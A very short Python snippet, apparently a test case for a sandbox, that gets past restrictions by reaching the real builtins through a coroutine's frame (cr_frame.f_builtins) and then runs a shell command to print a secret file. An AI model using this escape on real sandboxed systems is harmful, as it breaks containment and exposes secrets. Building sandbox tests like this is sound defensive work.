# A coroutine's frame.
# effect: run
async def work():
    pass
task = work()
task.cr_frame.f_builtins["__import__"]("os").system("cat @SECRET@")
task.close()
